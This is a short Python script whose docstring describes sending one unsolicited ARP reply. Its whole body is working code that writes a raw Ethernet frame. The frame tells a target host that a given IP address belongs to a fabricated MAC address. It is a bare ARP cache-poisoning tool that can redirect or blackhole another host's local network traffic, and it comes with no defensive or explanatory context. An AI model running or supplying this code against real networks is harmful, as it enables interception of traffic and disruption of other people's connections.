"""Sends one ARP answer that nobody asked for: unasked.py DEVICE TOLD CLAIMED. The claimed address is said to be at 02:00:00:00:06:66."""
import socket
import sys

device, told, claimed = sys.argv[1], socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3])
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind((device, 0))
    own = wire.getsockname()[4]
    false, target = bytes.fromhex("020000000666"), bytes.fromhex("02000000010a")
    wire.send(target + own + bytes.fromhex("0806 0001 0800 06 04 0002") + false + claimed + target + told)
